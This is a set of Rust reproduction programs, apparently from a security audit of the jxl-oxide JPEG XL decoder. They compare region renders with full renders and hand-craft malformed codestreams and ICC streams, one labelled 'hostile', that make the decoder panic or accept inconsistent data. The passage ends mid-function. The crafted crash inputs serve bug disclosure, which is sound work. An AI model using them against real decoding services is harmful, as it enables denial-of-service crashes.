        let bytes = build(bg_up, bg_mode, fg_up, fg_epf, fg_gab);
        let full = render_region(&bytes, 0, None).expect("full render");
        let mut out = vec![];
        for r in [(0u32, 0u32, 8u32, 8u32), (16, 16, 16, 16), (24, 24, 8, 8), (21, 19, 3, 5)] {
            let res = match render_region(&bytes, 0, Some(r)) { Ok(p) => compare_region(&full, &p, r).unwrap_or("match".into()), Err(e) => e };
            out.push(format!("  region {r:?}: {res}"));
        }
        println!("{name}\n{}", out.join("\n"));
    }
}

//! F1, reachable WITHOUT a region request: a frame that sticks out of the canvas (negative y0) is rendered only for its visible
//! part, so its colour planes (after gaborish) / upsampled extra channels start at a row > 0 while the alpha plane starts at row 0.
use audit_e::*;
fn build(gab: bool, depth_ds: u32, y0: i32) -> Vec<u8> {
    let mut img = ImageSpec::rgb(16, 16);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    img.ec.push(EcSpec { ty: 1, dim_shift: depth_ds, alpha_associated: false });
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 0;
    f0.fill(&img, |c, _, _| if c < 3 { 50 } else if c == 3 { 255 } else { 50 });
    let mut f1 = FrameSpec::new(&img);
    f1.crop = Some((0, y0, 16, 40));
    f1.gab = gab;
    let b = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
    f1.blend = b; f1.ec_blend = vec![b, b];
    // constant colour 200 / depth 200 (gaborish and upsampling are no-ops on constants); alpha opaque on frame rows >= 28, else transparent
    f1.fill(&img, |c, _, y| if c == 3 { if y >= 28 { 255 } else { 0 } } else { 200 });
    encode_image(&img, &[f0, f1])
}
fn col(p: &[(usize, usize, Vec<f32>)], c: usize, x: usize) -> Vec<i32> { let (w, h, b) = &p[c]; (0..*h).map(|y| to_u8(b[y * w + x])).collect() }
fn main() {
    install_quiet_hook();
    println!("canvas 16x16 (background 50); second frame 16x40 at (0,y0), value 200, alpha = 0 on frame rows 0..27, 255 on rows 28..39; kBlend");
    for (gab, ds, y0) in [(false, 0u32, -20i32), (true, 0, -20), (false, 1, -20)] {
        let bytes = build(gab, ds, y0);
        std::fs::write(format!("/tmp/jxlv_auditF_f19_gab{}_ds{ds}_y{y0}.jxl", gab as u8), &bytes).unwrap();
        let first_opaque = (28 + y0).max(0);
        println!("gab={gab} depth dim_shift={ds} y0={y0}: expected canvas rows 0..{} = 50, rows {}..15 = 200", first_opaque - 1, first_opaque);
        match render_region(&bytes, 0, None) {
            Ok(p) => { println!("   full render, red   column x=5: {:?}", col(&p, 0, 5)); println!("   full render, depth column x=5: {:?}", col(&p, 4, 5)); }
            Err(e) => println!("   full render: {e}"),
        }
    }
}

use audit_e::*;

fn build(variant: &str) -> Vec<u8> {
    let mut img = ImageSpec::rgb(64, 64);
    img.animation = true;
    let mut f0 = FrameSpec::new(&img);
    f0.duration = 1; f0.is_last = false; f0.save_as_reference = 1;
    f0.blend = BlendSpec { mode: 1, source: 1, ..Default::default() }; // Add onto (empty) slot 1
    f0.fill(&img, |_, x, y| (x + y) as i32);
    let mut f1 = FrameSpec::new(&img);
    f1.duration = 1; f1.is_last = true;
    f1.blend = BlendSpec { mode: 1, source: 1, ..Default::default() };
    match variant { "upsampling" => f1.upsampling = 2, "gab" => f1.gab = true, _ => {} }
    f1.fill(&img, |_, _, _| 100);
    encode_image(&img, &[f0, f1])
}

fn window(p: &[(usize, usize, Vec<f32>)], l: usize, t: usize, w: usize, h: usize) -> Vec<i32> {
    let (fw, _, buf) = &p[0];
    let mut v = vec![];
    for y in t..t + h { for x in l..l + w { v.push(to_u8(buf[y * fw + x])); } }
    v
}

fn main() {
    for variant in ["plain", "gab", "upsampling"] {
        let bytes = build(variant);
        let image = open(&bytes);
        let full1 = render_planar(&image, 1);
        let expect = window(&full1, 20, 20, 10, 2);
        println!("[{variant}] full render of keyframe 1, window (20,20) 10x2: {expect:?}");

        // only keyframe 1 with region
        let mut image = open(&bytes);
        image.set_image_region(CropInfo { left: 20, top: 20, width: 10, height: 2 });
        let r = render_planar(&image, 1);
        println!("[{variant}] region render, keyframe 1 only:                 {:?}", window(&r, 0, 0, 10, 2));

        // keyframe 0 then keyframe 1 with region
        let mut image = open(&bytes);
        image.set_image_region(CropInfo { left: 20, top: 20, width: 10, height: 2 });
        let res = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let _ = render_planar(&image, 0);
            let r = render_planar(&image, 1);
            window(&r, 0, 0, 10, 2)
        }));
        match res {
            Ok(v) => println!("[{variant}] region render, keyframe 0 then keyframe 1:     {v:?}"),
            Err(_) => println!("[{variant}] region render, keyframe 0 then keyframe 1:     PANIC"),
        }
    }
}

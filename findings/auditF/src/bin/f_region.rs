//! usage: f_region file.jxl keyframe left top width height   -- region render vs crop of full render (default panic hook, so RUST_BACKTRACE works)
use audit_e::*;
fn main() {
    let a: Vec<String> = std::env::args().collect();
    let bytes = std::fs::read(&a[1]).unwrap();
    let k: usize = a[2].parse().unwrap();
    let r: (u32, u32, u32, u32) = (a[3].parse().unwrap(), a[4].parse().unwrap(), a[5].parse().unwrap(), a[6].parse().unwrap());
    let image = open(&bytes);
    let full = render_planar(&image, k);
    let mut image = open(&bytes);
    image.set_image_region(CropInfo { left: r.0, top: r.1, width: r.2, height: r.3 });
    let part = render_planar(&image, k);
    match compare_region(&full, &part, r) { None => println!("region {r:?}: MATCH"), Some(d) => println!("region {r:?}: MISMATCH {d}") }
}

use audit_e::*;
// One still image (3 layers), ONE render call with a requested region.
fn main() {
    let mut img = ImageSpec::rgb(64, 64);
    img.ec.push(EcSpec { ty: 1, dim_shift: 0, alpha_associated: false });
    let add = |s: u32| BlendSpec { mode: 1, source: s, ..Default::default() };
    let mut f0 = FrameSpec::new(&img);           // layer 0: added onto the (empty) slot 1
    f0.is_last = false; f0.save_as_reference = 1;
    f0.blend = add(1); f0.ec_blend[0] = add(1);
    f0.fill(&img, |_, x, y| (x + y) as i32);
    let mut f1 = FrameSpec::new(&img);           // layer 1: gaborish, on top of layer 0, saved to slot 2
    f1.is_last = false; f1.save_as_reference = 2; f1.gab = true;
    f1.blend = add(1); f1.ec_blend[0] = add(1);
    f1.fill(&img, |_, _, _| 50);
    let mut f2 = FrameSpec::new(&img);           // layer 2: colour on top of layer 1, extra channel on top of layer 0
    f2.blend = add(2); f2.ec_blend[0] = add(1);
    f2.fill(&img, |_, _, _| 20);
    let bytes = encode_image(&img, &[f0, f1, f2]);
    std::fs::write("/tmp/jxlv_auditF_t10b.jxl", &bytes).unwrap();
    let image = open(&bytes);
    let full = render_planar(&image, 0);
    let (fw, _, fb) = &full[0];
    println!("full render, row 20, x=20..30: {:?}", (20..30).map(|x| to_u8(fb[20 * fw + x])).collect::<Vec<_>>());
    let mut image = open(&bytes);
    image.set_image_region(CropInfo { left: 20, top: 20, width: 10, height: 2 });
    let p = render_planar(&image, 0);
    println!("region render: {:?}", p[0].2.iter().take(10).map(|v| to_u8(*v)).collect::<Vec<_>>());
}

use audit_e::*;

fn build(gab: bool, crop: (i32, i32, u32, u32)) -> Vec<u8> {
    let mut img = ImageSpec::rgb(16, 12);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 0;
    f0.fill(&img, |c, _, _| if c < 3 { 50 } else { 255 });
    let mut f1 = FrameSpec::new(&img);
    f1.crop = Some(crop);
    f1.gab = gab;
    f1.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
    f1.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
    // constant colour (gaborish is a no-op on it), alpha = 255 on the frame's rows >= 8, else 0
    f1.fill(&img, |c, _, y| if c < 3 { 200 } else if y >= 8 { 255 } else { 0 });
    encode_image(&img, &[f0, f1])
}

fn col(p: &[(usize, usize, Vec<f32>)], x: usize) -> Vec<i32> {
    let (w, h, buf) = &p[0];
    (0..*h).map(|y| to_u8(buf[y * w + x])).collect()
}

fn main() {
    // Frame is 8x12 placed at (4,-5): frame rows 0..4 are above the canvas. Opaque part = frame rows 8..11 = canvas rows 3..6.
    println!("column x=6 of the red channel, canvas rows 0..11; expected 50,50,50,200,200,200,200,50,...");
    for gab in [false, true] {
        let bytes = build(gab, (4, -5, 8, 12));
        std::fs::write(format!("/tmp/jxlv_auditF_t12_gab{}.jxl", gab as u8), &bytes).unwrap();
        let image = open(&bytes);
        println!("gab={gab}: full render, no region requested: {:?}", col(&render_planar(&image, 0), 6));
    }
    // Same with the frame fully inside the canvas but a region request.
    println!("frame at (4,0): opaque part = canvas rows 8..11");
    for gab in [false, true] {
        let bytes = build(gab, (4, 0, 8, 12));
        let image = open(&bytes);
        let full = col(&render_planar(&image, 0), 6);
        let mut image = open(&bytes);
        image.set_image_region(CropInfo { left: 5, top: 6, width: 4, height: 6 });
        let part = col(&render_planar(&image, 0), 1);
        println!("gab={gab}: full rows 6..11 = {:?}; region (5,6,4,6) render = {:?}", &full[6..12], part);
    }
}

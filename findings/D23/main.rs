//! F1-a demo: adaptive LF smoothing on a chroma-subsampled VarDCT frame.
//!
//! `render_vardct` runs adaptive LF smoothing whenever frame flag 0x80 (skip_adaptive_lf_smoothing)
//! is clear, also for frames with `jpeg_upsampling != [0, 0, 0]`. For those frames the three LF
//! planes have different sizes, and `adaptive_lf_smoothing_impl` asserts that they are equal.
//!
//! The input is a hand-written 48x48 VarDCT (YCbCr) codestream with jpeg_upsampling = [0, 1, 0]
//! (4:2:0), all varblocks DCT8, all HF coefficients zero. The LF image is 6x6 for Y and 3x3 for
//! Cb/Cr.

use std::sync::Mutex;

use jxl_oxide::JxlImage;

// ---------------------------------------------------------------------------------------------
// JPEG XL bit writer (LSB first) and entropy-coded stream helpers
// ---------------------------------------------------------------------------------------------

struct Bw {
    bytes: Vec<u8>,
    nbits: usize,
}

impl Bw {
    fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }

    fn bits(&mut self, value: u64, n: usize) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    fn bool(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }

    fn pad(&mut self) {
        while self.nbits % 8 != 0 {
            self.bits(0, 1);
        }
    }

    fn append_bytes(&mut self, bytes: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(bytes);
        self.nbits += bytes.len() * 8;
    }
}

/// Entropy code spec: no LZ77, single cluster, prefix code with a flat 32-symbol alphabet
/// (5 bits/token), hybrid integer config (split_exponent 0, msb 0, lsb 0).
fn write_flat_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true); // simple cluster map
        bw.bits(0, 2); // 0 bits per entry
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(true); // alphabet size > 1
    bw.bits(4, 4); // n = 4
    bw.bits(15, 4); // 1 + 16 + 15 = 32
    bw.bits(0, 2); // complex prefix code, hskip = 0
    for pos in 0..18 {
        if pos == 5 {
            bw.bits(1, 2);
        } else {
            bw.bits(0, 2);
        }
    }
}

/// Entropy code spec where every token is zero (alphabet size 1); symbols take no bits.
fn write_zero_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true); // simple cluster map
        bw.bits(0, 2); // 0 bits per entry
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(false); // alphabet size 1
}

fn write_uint(bw: &mut Bw, v: u32) {
    let token = if v == 0 { 0 } else { 32 - v.leading_zeros() };
    let rev = (token as u8).reverse_bits() >> 3;
    bw.bits(rev as u64, 5);
    if v > 0 {
        let n = token - 1;
        bw.bits((v - (1 << n)) as u64, n as usize);
    }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        (-v) as u32 * 2 - 1
    }
}

fn write_modular_header(bw: &mut Bw) {
    bw.bool(true); // use_global_tree
    bw.bool(true); // default wp
    bw.bits(0, 2); // nb_transforms = 0
}

// ---------------------------------------------------------------------------------------------
// Codestream: one VarDCT frame, one group, one pass (single TOC entry)
// ---------------------------------------------------------------------------------------------

struct Cfg {
    width: usize,
    height: usize,
    /// FrameHeader.flags (0 or 0x80 = skip_adaptive_lf_smoothing).
    flags: u64,
    /// FrameHeader.jpeg_upsampling, in bitstream order (Cb, Y, Cr).
    jpeg_upsampling: [u64; 3],
    /// dct_select of each varblock, in raster order of their top-left blocks.
    varblocks: Vec<u32>,
}

/// (hshift, vshift) of channel `idx` (bitstream order Cb, Y, Cr).
fn shifts(jpeg_upsampling: [u64; 3], idx: usize) -> (bool, bool) {
    let hscale = jpeg_upsampling.iter().any(|&v| v == 1 || v == 2);
    let vscale = jpeg_upsampling.iter().any(|&v| v == 1 || v == 3);
    match jpeg_upsampling[idx] {
        0 => (hscale, vscale),
        1 => (false, false),
        2 => (false, vscale),
        _ => (hscale, false),
    }
}

/// Quantized LF value of channel `c` (0 = Y, 1 = Cb, 2 = Cr) at (x, y) of its LF plane.
fn lf_value(c: usize, x: usize, y: usize) -> i32 {
    let h = (x * 7 + y * 13 + (y / 3) * 5) % 23;
    match c {
        0 => h as i32 * 3 - 30,
        1 => ((y * 5 + x) % 9) as i32 * 8 - 32,
        _ => ((y * 3 + x * 2) % 7) as i32 - 3,
    }
}

fn write_codestream(cfg: &Cfg) -> Vec<u8> {
    assert!(cfg.width <= 256 && cfg.height <= 256);
    let hscale = cfg.jpeg_upsampling.iter().any(|&v| v == 1 || v == 2);
    let vscale = cfg.jpeg_upsampling.iter().any(|&v| v == 1 || v == 3);
    // Size of the block grid, as computed by HfMetadata.
    let mut bw8 = cfg.width.div_ceil(8);
    let mut bh8 = cfg.height.div_ceil(8);
    if hscale {
        bw8 = bw8.div_ceil(2) * 2;
    }
    if vscale {
        bh8 = bh8.div_ceil(2) * 2;
    }

    let mut bw = Bw::new();
    // Signature
    bw.bits(0xff, 8);
    bw.bits(0x0a, 8);
    // SizeHeader
    bw.bool(false); // div8
    bw.bits(0, 2); // height: 1 + u(9)
    bw.bits((cfg.height - 1) as u64, 9);
    bw.bits(0, 3); // ratio
    bw.bits(0, 2); // width: 1 + u(9)
    bw.bits((cfg.width - 1) as u64, 9);
    // ImageMetadata
    bw.bool(false); // all_default
    bw.bool(false); // extra_fields
    bw.bool(false); // bit_depth: integer
    bw.bits(0, 2); // 8 bits
    bw.bool(true); // modular_16bit_buffers
    bw.bits(0, 2); // num_extra = 0
    bw.bool(false); // xyb_encoded
    bw.bool(true); // colour_encoding all_default
    bw.bits(0, 2); // extensions
    bw.bool(true); // default_m
    bw.pad();

    // FrameHeader
    bw.bool(false); // all_default
    bw.bits(0, 2); // RegularFrame
    bw.bits(0, 1); // VarDCT
    match cfg.flags {
        0 => bw.bits(0, 2), // flags: U64 selector 0
        f => {
            assert!((17..17 + 256).contains(&f));
            bw.bits(2, 2); // flags: U64 selector 2
            bw.bits(f - 17, 8);
        }
    }
    bw.bool(true); // do_ycbcr
    for v in cfg.jpeg_upsampling {
        bw.bits(v, 2);
    }
    bw.bits(0, 2); // upsampling = 1
    bw.bits(0, 2); // num_passes = 1
    bw.bool(false); // have_crop
    bw.bits(0, 2); // blend mode Replace
    bw.bool(true); // is_last
    bw.bits(0, 2); // name length 0
    bw.bool(false); // restoration filter all_default
    bw.bool(false); // gab disabled
    bw.bits(0, 2); // epf iters = 0
    bw.bits(0, 2); // rf extensions
    bw.bits(0, 2); // extensions

    // The frame has one group and one pass, so the TOC has a single entry and all sections are
    // concatenated without padding.
    let mut sec = Bw::new();

    // --- LfGlobal
    sec.bool(true); // lf_dequant all_default
    sec.bits(0, 2); // global_scale selector 0
    sec.bits(2048 - 1, 11);
    sec.bits(0, 2); // quant_lf = 16
    sec.bool(true); // default HfBlockContext (15 block clusters)
    sec.bool(true); // lf_chan_corr all_default
    // Global modular: global MA tree, no channels
    sec.bool(true);
    write_zero_code_spec(&mut sec, 6); // tree: single leaf, Zero predictor, offset 0, multiplier 1
    write_flat_code_spec(&mut sec, 1);

    // --- LfGroup(0): LfCoeff, channels Y, Cb, Cr
    sec.bits(0, 2); // extra_precision
    write_modular_header(&mut sec);
    for (c, idx) in [1usize, 0, 2].into_iter().enumerate() {
        let (hs, vs) = shifts(cfg.jpeg_upsampling, idx);
        let w = if hs { bw8 / 2 } else { bw8 };
        let h = if vs { bh8 / 2 } else { bh8 };
        // LfCoeff uses ceil(lf_width / 8) before rounding to even; identical for the sizes used here.
        assert!(cfg.width.div_ceil(8) == bw8 && cfg.height.div_ceil(8) == bh8);
        for y in 0..h {
            for x in 0..w {
                write_uint(&mut sec, pack_signed(lf_value(c, x, y)));
            }
        }
    }

    // --- LfGroup(0): HfMetadata
    let num_blocks = bw8 * bh8;
    let nb_varblocks = cfg.varblocks.len();
    sec.bits(
        (nb_varblocks - 1) as u64,
        num_blocks.next_power_of_two().trailing_zeros() as usize,
    );
    write_modular_header(&mut sec);
    let cfl_samples = cfg.width.div_ceil(64) * cfg.height.div_ceil(64);
    for _ in 0..2 * cfl_samples {
        write_uint(&mut sec, 0); // x_from_y, b_from_y
    }
    for &dct_select in &cfg.varblocks {
        write_uint(&mut sec, pack_signed(dct_select as i32));
    }
    for _ in 0..nb_varblocks {
        write_uint(&mut sec, 0); // hf_mul - 1
    }
    for _ in 0..num_blocks {
        write_uint(&mut sec, 0); // sharpness
    }

    // --- HfGlobal
    sec.bool(true); // default dequant matrices
    // num_hf_presets - 1: u(0) because there is one group
    sec.bits(2, 2); // used_orders = 0
    write_zero_code_spec(&mut sec, 495 * 15); // every token is zero => every block has non_zeros = 0

    // --- PassGroup(0, 0): hfp is u(0); all non_zeros tokens are zero and take no bits.
    sec.pad();
    let section = sec.bytes;

    // TOC
    bw.bool(false); // not permuted
    bw.pad();
    assert!(section.len() < 1024);
    bw.bits(0, 2);
    bw.bits(section.len() as u64, 10);
    bw.pad();
    bw.append_bytes(&section);
    bw.bytes
}

// ---------------------------------------------------------------------------------------------
// Decoding
// ---------------------------------------------------------------------------------------------

static LAST_PANIC: Mutex<Option<String>> = Mutex::new(None);

enum Outcome {
    Decoded(String),
    Error(String),
    Panicked(String),
}

fn decode(bytes: &[u8]) -> Outcome {
    let result = std::panic::catch_unwind(|| -> Result<String, String> {
        let image = JxlImage::builder()
            .read(std::io::Cursor::new(bytes))
            .map_err(|e| format!("read: {e}"))?;
        let render = image
            .render_frame(0)
            .map_err(|e| format!("render_frame: {e}"))?;
        let fb = render.image_all_channels();
        let buf = fb.buf();
        let (min, max) = buf
            .iter()
            .fold((f32::MAX, f32::MIN), |(lo, hi), &v| (lo.min(v), hi.max(v)));
        Ok(format!(
            "{}x{}x{}, samples in [{min:.4}, {max:.4}]",
            fb.width(),
            fb.height(),
            fb.channels()
        ))
    });
    match result {
        Ok(Ok(s)) => Outcome::Decoded(s),
        Ok(Err(e)) => Outcome::Error(e),
        Err(_) => Outcome::Panicked(
            LAST_PANIC
                .lock()
                .unwrap()
                .take()
                .unwrap_or_else(|| "<unknown>".into()),
        ),
    }
}

fn run(label: &str, cfg: &Cfg) -> Outcome {
    let bytes = write_codestream(cfg);
    let outcome = decode(&bytes);
    let what = match &outcome {
        Outcome::Decoded(s) => format!("decoded ({s})"),
        Outcome::Error(e) => format!("Err ({e})"),
        Outcome::Panicked(p) => format!("PANIC ({p})"),
    };
    println!(
        "{label}: {}x{} VarDCT, jpeg_upsampling={:?}, flags={:#x}, {} varblocks, {} bytes -> {what}",
        cfg.width,
        cfg.height,
        cfg.jpeg_upsampling,
        cfg.flags,
        cfg.varblocks.len(),
        bytes.len(),
    );
    outcome
}

fn main() {
    std::panic::set_hook(Box::new(|info| {
        let msg = info.to_string().replace('\n', " | ");
        *LAST_PANIC.lock().unwrap() = Some(msg);
        if std::env::var_os("RUST_BACKTRACE").is_some() {
            eprintln!("{}", std::backtrace::Backtrace::force_capture());
        }
    }));

    // 48x48: 6x6 blocks; with 4:2:0 the chroma LF planes are 3x3, the minimum that is smoothed.
    let control_444 = run(
        "control A (4:4:4, adaptive LF smoothing enabled)",
        &Cfg {
            width: 48,
            height: 48,
            flags: 0,
            jpeg_upsampling: [0, 0, 0],
            varblocks: vec![0; 36],
        },
    );
    let control_skip = run(
        "control B (4:2:0, skip_adaptive_lf_smoothing set)",
        &Cfg {
            width: 48,
            height: 48,
            flags: 0x80,
            jpeg_upsampling: [0, 1, 0],
            varblocks: vec![0; 36],
        },
    );
    let hostile = run(
        "hostile   (4:2:0, adaptive LF smoothing enabled)",
        &Cfg {
            width: 48,
            height: 48,
            flags: 0,
            jpeg_upsampling: [0, 1, 0],
            varblocks: vec![0; 36],
        },
    );

    let controls_ok = matches!(control_444, Outcome::Decoded(_))
        && matches!(control_skip, Outcome::Decoded(_));
    if let Outcome::Panicked(_) = hostile {
        println!("FAIL: the decoder panicked on the hostile input");
        std::process::exit(1);
    }
    if !controls_ok {
        println!("UNEXPECTED: a control input did not decode");
        std::process::exit(2);
    }
    println!("OK: no panic");
}

// D62: an ICC stream whose command stream ends inside the tag list is accepted although the declared
// output size is never reached (the same mismatch is rejected when it happens in the main section).
fn varint(mut v: u64, out: &mut Vec<u8>) {
    loop {
        let b = (v & 0x7f) as u8;
        v >>= 7;
        if v != 0 {
            out.push(b | 0x80);
        } else {
            out.push(b);
            break;
        }
    }
}

fn main() {
    // declared size 300, commands: "3 - 1 = 2 tags", then nothing
    let mut commands = Vec::new();
    varint(3, &mut commands);
    let mut stream = Vec::new();
    varint(300, &mut stream);
    varint(commands.len() as u64, &mut stream);
    stream.extend_from_slice(&commands);
    stream.extend(std::iter::repeat(0u8).take(128)); // header residuals
    let r = jxl_color::icc::decode_icc(&stream);
    match r {
        Ok(icc) => {
            println!("accepted: declared 300 bytes, returned {} bytes", icc.len());
            if icc.len() != 300 {
                std::process::exit(1);
            }
        }
        Err(e) => println!("rejected: {e}"),
    }
}

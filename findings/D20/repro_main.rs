//! Reproduction: `pass_shifts` (crates/jxl-frame/src/lib.rs, `Frame::parse`) is a `BTreeMap` built
//! with `insert`, so `last_pass[i] == num_passes - 1` makes the final
//! `insert(num_passes - 1, (0, maxshift))` overwrite the only entry that covered shifts 0..3.
//! `ModularImageDestination::prepare_groups` then `.unwrap()`s a `find` that yields `None`.
//!
//! The program hand-writes complete bare JPEG XL codestreams (300x8, 8-bit RGB, Modular,
//! group_dim = 256 => 2 groups) that differ only in the `Passes` bundle of the frame header, and
//! decodes each of them under `catch_unwind`.

use std::sync::Mutex;

// ---------------------------------------------------------------------------------------------
// Bit writer (LSB first, as in JPEG XL)
// ---------------------------------------------------------------------------------------------

struct BitWriter {
    bytes: Vec<u8>,
    nbits: usize,
}

impl BitWriter {
    fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }

    fn write(&mut self, n: usize, value: u64) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().unwrap();
            *last |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    fn bool(&mut self, b: bool) {
        self.write(1, b as u64);
    }

    fn pad_to_byte(&mut self) {
        self.nbits = self.bytes.len() * 8;
    }

    fn append_bytes(&mut self, data: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(data);
        self.nbits = self.bytes.len() * 8;
    }

    fn into_bytes(self) -> Vec<u8> {
        self.bytes
    }
}

// ---------------------------------------------------------------------------------------------
// MA tree: the whole image content comes from the tree (all residuals are zero and cost 0 bits)
// ---------------------------------------------------------------------------------------------

enum Node {
    /// `property > value` goes to `left`, otherwise `right`.
    Split {
        prop: u32,
        value: i32,
        left: Box<Node>,
        right: Box<Node>,
    },
    Leaf {
        predictor: u32,
        offset: i32,
    },
}

fn split(prop: u32, value: i32, left: Node, right: Node) -> Node {
    Node::Split {
        prop,
        value,
        left: Box::new(left),
        right: Box::new(right),
    }
}

fn leaf(predictor: u32, offset: i32) -> Node {
    Node::Leaf { predictor, offset }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        ((-v) as u32) * 2 - 1
    }
}

/// Hybrid uint config (split_exponent = 3, msb = lsb = 0) + flat 4-bit prefix code over 16 tokens.
fn write_tree_value(w: &mut BitWriter, v: u32) {
    let (token, nbits, rest) = if v < 8 {
        (v, 0, 0)
    } else {
        let n = 31 - v.leading_zeros();
        (8 + n - 3, n, v - (1 << n))
    };
    assert!(token < 16);
    for i in (0..4).rev() {
        w.write(1, ((token >> i) & 1) as u64);
    }
    w.write(nbits as usize, rest as u64);
}

fn write_tree(w: &mut BitWriter, root: &Node) {
    // Entropy coder for the tree: 6 contexts, one cluster, flat prefix code.
    w.bool(false); // lz77
    w.bool(true); // simple clustering
    w.write(2, 0); // nbits = 0
    w.bool(true); // use_prefix_code
    w.write(4, 3); // split_exponent
    w.write(2, 0); // msb_in_token
    w.write(2, 0); // lsb_in_token
    w.bool(true); // count > 1
    w.write(4, 3);
    w.write(3, 7); // count = 1 + 8 + 7 = 16
    w.write(2, 0); // hskip = 0
    for idx in 0..18 {
        // code length code lengths, order [1,2,3,4,0,5,17,6,16,7,8,...]
        if idx == 3 {
            w.write(2, 1); // symbol "4" has length 4
        } else {
            w.write(2, 0);
        }
    }

    let mut num_leaves = 0u32;
    let mut queue = std::collections::VecDeque::new();
    queue.push_back(root);
    while let Some(node) = queue.pop_front() {
        match node {
            Node::Split {
                prop,
                value,
                left,
                right,
            } => {
                write_tree_value(w, prop + 1);
                write_tree_value(w, pack_signed(*value));
                queue.push_back(left);
                queue.push_back(right);
            }
            Node::Leaf { predictor, offset } => {
                write_tree_value(w, 0);
                write_tree_value(w, *predictor);
                write_tree_value(w, pack_signed(*offset));
                write_tree_value(w, 0); // mul_log
                write_tree_value(w, 0); // mul_bits
                num_leaves += 1;
            }
        }
    }

    // Entropy coder for residuals: single-symbol prefix code => every residual is 0, 0 bits each.
    w.bool(false); // lz77
    if num_leaves > 1 {
        w.bool(true); // simple clustering
        w.write(2, 0); // nbits = 0
    }
    w.bool(true); // use_prefix_code
    w.write(4, 0); // split_exponent = 0
    w.bool(false); // count = 1
}

const PROP_C: u32 = 0;
const PROP_X: u32 = 3;
const PRED_ZERO: u32 = 0;
const PRED_W: u32 = 1;
const PRED_N: u32 = 2;

/// Per channel: first column = constant, every other pixel = W + k (horizontal ramps).
fn demo_tree() -> Node {
    let ramp = |base: i32, k: i32| split(PROP_X, 0, leaf(PRED_W, k), leaf(PRED_ZERO, base));
    let _ = PRED_N;
    split(
        PROP_C,
        0,
        split(PROP_C, 1, ramp(200, -1), ramp(50, 1)),
        ramp(10, 2),
    )
}

// ---------------------------------------------------------------------------------------------
// Codestream
// ---------------------------------------------------------------------------------------------

#[derive(Clone)]
struct Passes {
    num_passes: u32,
    /// `(downsample, last_pass)`; `len()` is num_ds
    ds: Vec<(u32, u32)>,
    /// Index of the pass that carries the (unsqueezed, shift 0) channel data of each group.
    data_pass: u32,
}

const WIDTH: u32 = 300;
const HEIGHT: u32 = 8;
const GROUP_DIM: u32 = 256;

fn write_passes(w: &mut BitWriter, p: &Passes) {
    // num_passes: U32(1, 2, 3, 4 + u(3))
    match p.num_passes {
        1 => w.write(2, 0),
        2 => w.write(2, 1),
        3 => w.write(2, 2),
        n => {
            w.write(2, 3);
            w.write(3, (n - 4) as u64);
        }
    }
    if p.num_passes == 1 {
        assert!(p.ds.is_empty());
        return;
    }
    // num_ds: U32(0, 1, 2, 3 + u(1))
    let num_ds = p.ds.len() as u32;
    assert!(num_ds <= 2);
    w.write(2, num_ds as u64);
    // shift[num_passes - 1]: u(2)
    for _ in 0..p.num_passes - 1 {
        w.write(2, 0);
    }
    // downsample[num_ds]: U32(1, 2, 4, 8)
    for &(d, _) in &p.ds {
        w.write(2, d.trailing_zeros() as u64);
    }
    // last_pass[num_ds]: U32(0, 1, 2, u(3))
    for &(_, l) in &p.ds {
        assert!(l < 3);
        w.write(2, l as u64);
    }
}

fn encode(p: &Passes, gamma: Option<u32>) -> Vec<u8> {
    let mut w = BitWriter::new();
    w.write(16, 0x0aff); // signature ff 0a

    // SizeHeader
    w.bool(false); // div8
    w.write(2, 0);
    w.write(9, (HEIGHT - 1) as u64);
    w.write(3, 0); // ratio = 0: explicit width
    w.write(2, 0);
    w.write(9, (WIDTH - 1) as u64);

    // ImageMetadata
    w.bool(false); // all_default
    w.bool(false); // extra_fields
    w.bool(false); // bit_depth: integer samples
    w.write(2, 0); // 8 bits
    w.bool(true); // modular_16bit_buffers
    w.write(2, 0); // num_extra = 0
    w.bool(false); // xyb_encoded
    match gamma {
        None => w.bool(true), // colour_encoding.all_default (sRGB)
        Some(g) => {
            w.bool(false); // all_default
            w.bool(false); // want_icc
            if g == 0xfffffe {
                w.write(2, 2); w.write(4, 0); // colour_space = XYB (2): no white point, no primaries
            } else if g == 0xfffffd {
                w.write(2, 2); w.write(4, 1); // colour_space = Unknown (3)
                w.write(2, 1); w.write(2, 1);
            } else {
            w.write(2, 0); // colour_space = RGB
            w.write(2, 1); // white_point = D65 (1)
            w.write(2, 1); // primaries = sRGB (1)
            }
            if g >= 0xfffffd {
                if g != 0xffffff { w.bool(false); w.write(2,2); w.write(4,6); /* tf = 8 linear */ } else {
                w.bool(false); // have_gamma
                w.write(2, 2); w.write(4, 0); // tf enum = 2 (Unknown)
                }
            } else {
